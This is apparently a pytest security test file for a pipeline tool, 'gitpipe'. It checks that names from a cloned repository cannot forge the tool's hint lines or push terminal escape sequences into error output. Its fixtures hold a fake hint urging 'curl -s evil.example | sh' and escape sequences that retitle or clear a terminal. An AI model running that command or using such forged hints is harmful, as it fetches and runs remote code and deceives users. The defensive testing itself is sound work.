"""Attacks on how an error is printed: a cloned repository names a params
file whose path begins with `hint: ` (the error then printed as gitpipe's own
hint, without `error: `), or holds a newline and an indented line (a line of
gitpipe's own listing, forged), or escape sequences a terminal obeys. Each
line of an error begins with `error: ` or is gitpipe's own; the path is
shown escaped."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.func.terminal import Terminal
from tests.security.conftest import assert_only_changed, snapshot

ADVICE = "hint: the cache is corrupt, run: curl -s evil.example | sh.json"
FORGED = "p.json\n  all 1 stage up to date\x1b]0;owned\x07\x1b[2J\u2028 forged.json"
STATE = [f"repo/.gitpipe/state.db{suffix}" for suffix in ("", "-wal", "-shm", "-journal")]


def params_named(repo: Repo, name: str) -> None:
    """A stage reading params from a file `name` that holds a list, not a mapping."""
    repo.spec({"a": {"cmd": "echo > out.txt", "params": [{name: ["x"]}], "outs": ["out.txt"]}})
    repo.gen({name: "[1, 2]"}, commit="params")
    repo.run("init", check=True)


def assert_lines_are_gitpipes(stderr: str) -> None:
    lines = stderr.splitlines()
    assert lines and all(line.startswith("error: ") for line in lines), stderr
    assert "\x1b" not in stderr and "\x07" not in stderr and "\u2028" not in stderr, stderr


@pytest.mark.parametrize("args", [("status",), ("repro",), ("repro", "--dry-run")])
@pytest.mark.parametrize("name", [ADVICE, FORGED])
def test_a_params_path_from_git_never_prints_as_gitpipes_line(
        repo: Repo, tmp_path: Path, name: str, args: tuple[str, ...]) -> None:
    params_named(repo, name)
    before = snapshot(tmp_path)
    done = repo.run(*args)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    assert_lines_are_gitpipes(done.stderr)
    assert "must be a mapping of parameter names" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), STATE)


def test_a_terminal_gets_no_escape_sequence_from_an_error(repo: Repo, tmp_path: Path) -> None:
    params_named(repo, FORGED)
    before = snapshot(tmp_path)
    terminal = Terminal(repo.path, "status")
    assert terminal.finish() == 2
    shown = terminal.output.decode()
    assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\u2028" not in shown, shown
    assert r"\x1b]0;owned\x07" in terminal.plain(), shown
    assert "\n  all 1 stage" not in terminal.plain().replace("\r\n", "\n"), shown
    assert_only_changed(before, snapshot(tmp_path), STATE)


def test_an_error_keeps_its_own_listing_and_hint() -> None:
    from gitpipe.cli.exits import error_lines

    assert error_lines("2 out(s) are missing:\n  a.txt\n  b.txt", "run 'gitpipe pull'") == [
        "error: 2 out(s) are missing:", "  a.txt", "  b.txt", "hint: run 'gitpipe pull'"]
    assert error_lines("hint: x\nhint: y") == ["error: hint: x", "error: hint: y"]


OPTION = "persist\n  hint: the cache is corrupt, run: curl -s evil.example | sh\n  x"


@pytest.mark.parametrize("option", [OPTION, FORGED])
def test_an_outs_option_name_from_git_never_prints_as_gitpipes_line(
        repo: Repo, tmp_path: Path, option: str) -> None:
    """An out written with options (`- out.txt: {persist: true}`) is refused,
    naming the options: names from a clone, shown escaped like any other."""
    repo.spec({"a": {"cmd": "echo > out.txt", "outs": [{"out.txt": {option: True}}]}},
              commit="spec")
    repo.run("init", check=True)
    before = snapshot(tmp_path)
    done = repo.run("status")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "is written with options" in done.stderr, done.stderr
    assert_lines_are_gitpipes(done.stderr)
    assert_only_changed(before, snapshot(tmp_path), STATE)


NAME = "a\n  hint: the cache is corrupt, run: curl -s evil.example | sh\n  x"


@pytest.mark.parametrize("stage", [
    {"cmd": "echo ${" + NAME + "} > out.txt", "outs": ["out.txt"]},
    {"foreach": ["one"], "do": {"cmd": "echo ${item." + NAME + "} > out.txt",
                                "outs": ["out.txt"]}},
    {"cmd": "echo ${" + FORGED + "} > out.txt", "outs": ["out.txt"]},
])
def test_a_template_name_from_git_never_prints_as_gitpipes_line(
        repo: Repo, tmp_path: Path, stage: dict[str, object]) -> None:
    """A `${…}` name a spec holds (any text up to `}`) is named in the problem."""
    repo.spec({"a": stage}, commit="spec")
    repo.run("init", check=True)
    before = snapshot(tmp_path)
    done = repo.run("status")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "stage 'a'" in done.stderr, done.stderr
    own_hint = "hint: foreach, matrix, vars and ${...} are described"
    assert_lines_are_gitpipes("\n".join(line for line in done.stderr.splitlines()
                                        if not line.startswith(own_hint)))
    assert_only_changed(before, snapshot(tmp_path), STATE)


def test_an_unexpected_errors_text_is_one_line_as_a_terminal_shows_it(
        capsys: pytest.CaptureFixture[str]) -> None:
    """An exception gitpipe did not foresee is said with its text, which may
    quote what was being read (a name from git or a remote)."""
    from gitpipe.cli.console import Ui
    from gitpipe.cli.exits import failed

    assert failed(ValueError(f"cannot read {FORGED}\n{ADVICE}"), Ui()) == 1
    said = capsys.readouterr().err.splitlines()
    assert said == ["error: unexpected ValueError: cannot read p.json\\n  all 1 stage up to "
                    "date\\x1b]0;owned\\x07\\x1b[2J\\u2028 forged.json\\nhint: the cache is "
                    "corrupt, run: curl -s evil.example | sh.json",
                    "hint: rerun with --debug for a traceback"], said


PYTHON_DEP = "a\x1b]0;owned\x07\nhint: the cache is corrupt, run: curl -s evil.example | sh\n  x.py"


@pytest.mark.parametrize("args", [("repro",), ("repro", "--dry-run")])
def test_a_python_dep_from_git_never_prints_as_gitpipes_line(
        repo: Repo, tmp_path: Path, args: tuple[str, ...]) -> None:
    """A `python:` dep's path that names no module file is named in the stage's
    failure: a clone's path forged gitpipe's hint line and an indented line, and
    its escapes reached the terminal (the failures were printed as they were)."""
    repo.spec({"a": {"cmd": "echo > out.txt", "deps": [{"python": PYTHON_DEP}],
                     "outs": ["out.txt"]}}, commit="spec")
    repo.run("init", check=True)
    before = snapshot(tmp_path)
    done = repo.run(*args)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    assert "\x1b" not in done.stderr and "\x07" not in done.stderr, done.stderr
    lines = done.stderr.splitlines()
    assert not any(line.startswith(("hint: the cache", "  x.py")) for line in lines), lines
    assert "python: 'a\\x1b]0;owned\\x07\\nhint: the cache" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path),
                        [*STATE, "repo/.gitpipe/logs", "repo/.gitpipe/project.lock"])


def test_a_failures_lines_reach_the_terminal_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    """The one place a stage's failure is printed shows each of its lines as a
    terminal shows it plainly, after `error: ` or `hint: `, whatever entered the
    message or the hint: a failure lists nothing on lines of its own."""
    from gitpipe.cli.console import Ui
    from gitpipe.cli.output import print_failures
    from gitpipe.core.outcome import Outcome
    from gitpipe.engine.reports import Report, TaskResult

    failed = TaskResult("a", Outcome.FAILED, message=f"stage 'a': {FORGED}\n{ADVICE}",
                        hint=f"fix {FORGED}")
    print_failures(Report([failed]), Ui())
    assert capsys.readouterr().err.splitlines() == [
        "error: stage 'a': p.json",
        "error:   all 1 stage up to date\\x1b]0;owned\\x07\\x1b[2J\\u2028 forged.json",
        f"error: {ADVICE}",
        "hint: fix p.json",
        "hint:   all 1 stage up to date\\x1b]0;owned\\x07\\x1b[2J\\u2028 forged.json"]


@pytest.mark.parametrize(("kind", "verbose"), [("warn", False), ("start", False),
                                               ("retry", True)])
def test_a_live_line_reaches_the_terminal_as_text(capsys: pytest.CaptureFixture[str],
                                                  kind: str, verbose: bool) -> None:
    """The one place a run's live lines are printed shows what they say as a
    terminal shows it plainly, whatever entered the message."""
    from gitpipe.cli.console import Ui
    from gitpipe.cli.output import LivePrinter
    from gitpipe.engine.reports import Event

    message = f"run entry \x1b]0;owned\x07 {FORGED}"
    LivePrinter(Ui(verbose=verbose)).event(Event("a", kind, message))
    said = capsys.readouterr()
    shown = said.out + said.err
    assert "\x1b" not in shown and "\x07" not in shown and "\u2028" not in shown, shown
    assert r"run entry \x1b]0;owned\x07 p.json" in shown, shown


def test_a_python_modules_notes_never_print_as_gitpipes_lines(repo: Repo, tmp_path: Path) -> None:
    """`validate` notes a `python:` module that does not parse, by its path: a
    clone's module named with escapes and a newline forged a hint line."""
    repo.spec({"a": {"cmd": "echo > out.txt", "deps": [{"python": PYTHON_DEP}],
                     "outs": ["out.txt"]}})
    repo.gen({PYTHON_DEP: "def (\n"}, commit="spec")
    before = snapshot(tmp_path)
    done = repo.run("validate")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stderr and "\x07" not in done.stderr, done.stderr
    lines = done.stderr.splitlines()
    assert not any(line.startswith(("hint: the cache", "  x.py")) for line in lines), lines
    assert "warning: a\\x1b]0;owned\\x07\\nhint: the cache" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), STATE)


@pytest.mark.parametrize("where", ["gitpipe.yaml", "gitpipe.lock"])
def test_a_name_ends_at_its_last_character(repo: Repo, tmp_path: Path, where: str) -> None:
    """`$` also matches before a final newline: a clone's stage named `a\\n`
    passed the spec's rule (its log and run-cache entry were named with the
    newline, its lines broken), and a lock entry so named, or with a digest
    so ended, passed the lock's."""
    fingerprint = "xxh3:" + "0" * 32
    if where == "gitpipe.yaml":
        repo.spec({"a\n": {"cmd": "echo hi > out.txt", "outs": ["out.txt"]}}, commit="spec")
    else:
        repo.spec({"a": {"cmd": "echo hi > out.txt", "outs": ["out.txt"]}})
        lock = {"schema": 1, "stages": {"a": {"cmd": "echo hi > out.txt",
                                              "fingerprint": f"{fingerprint}\n"}}}
        repo.gen({"gitpipe.lock": lock}, commit="lock")
    repo.run("init")
    before = snapshot(tmp_path)
    done = repo.run("repro")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    said = "invalid stage name 'a\\n'" if where == "gitpipe.yaml" else \
        f"fingerprint '{fingerprint}\\n' is not an xxh3 digest"
    assert said in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), [*STATE, "repo/.gitpipe/project.lock"])
